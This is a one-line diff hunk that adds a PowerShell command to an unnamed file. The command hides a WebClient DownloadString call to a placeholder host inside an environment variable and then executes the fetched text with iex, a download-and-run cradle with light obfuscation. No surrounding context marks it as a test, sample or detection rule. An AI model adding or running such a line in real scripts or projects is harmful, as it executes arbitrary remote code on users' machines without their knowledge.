@@ -1,0 +1,1 @@
+$env:zz='$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'; iex $env:zz
